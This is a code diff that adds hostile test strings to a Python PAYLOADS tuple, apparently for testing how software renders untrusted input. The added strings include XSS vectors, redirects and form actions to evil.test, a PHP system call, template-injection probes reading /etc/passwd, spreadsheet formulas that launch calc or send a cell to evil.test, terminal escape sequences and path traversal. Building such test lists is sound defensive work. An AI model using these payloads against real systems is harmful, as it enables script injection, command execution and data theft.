@@ -1,4 +1,7 @@
-"""A study whose every string attacks whoever shows it."""
+"""A study whose every string attacks whoever shows it.
+
+The number of payloads is a prime, so that each of them comes to stand in every field.
+"""
 
 from __future__ import annotations
 
@@ -35,6 +38,43 @@ PAYLOADS = (
     "&lt;script&gt;alert(11)&lt;/script&gt;",
     "עברית العربية",
     "",
+    "<img/src/onerror=alert(12)>",
+    "<IMG SRC=JaVaScRiPt:alert(13)>",
+    "<a href=javascript:alert(14)>x</a>",
+    "<object data=data:text/html,<script>alert(15)</script>>",
+    "<embed src=//evil.test/x.swf>",
+    "<meta http-equiv=refresh content=0;url=http://evil.test>",
+    "<base href=http://evil.test/>",
+    "<form action=http://evil.test><input type=submit autofocus onfocus=alert(16)>",
+    "<details open ontoggle=alert(17)>",
+    "<video><source onerror=alert(18)></video>",
+    "<math><mtext></math><script>alert(19)</script>",
+    "<template><script>alert(20)</script></template>",
+    "</textarea><script>alert(21)</script>",
+    "</noscript><script>alert(22)</script>",
+    "</xmp></plaintext><script>alert(23)</script>",
+    "]]><script>alert(24)</script>",
+    "--><script>alert(25)</script>",
+    "<?php system('id'); ?>",
+    "{% include '/etc/passwd' %}{{ self.__init__.__globals__ }}",
+    "${7*7}#{7*7}%{7*7}",
+    "\\u003cscript\\u003ealert(26)\\u003c/script\\u003e",
+    "%3Cscript%3Ealert(27)%3C/script%3E",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\u00a0=1+1",
+    "\uff1d1+1",
+    '=IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
+    'a,b"c\n=1+1',
+    "\x1b]0;title\x07",
+    "\x1b]8;;http://evil.test\x1b\\link\x1b]8;;\x1b\\",
+    "\x1b[2J\x1b[H\x9b31m\x90q\x9c",
+    "\u202eabc\u2066def\u2069",
+    "\u200b\u2060\ufeff",
+    "zalgo\u0301\u0302\u0303\u0304" * 9,
+    "../../../etc/passwd",
 )
 
 Hostile = tuple[
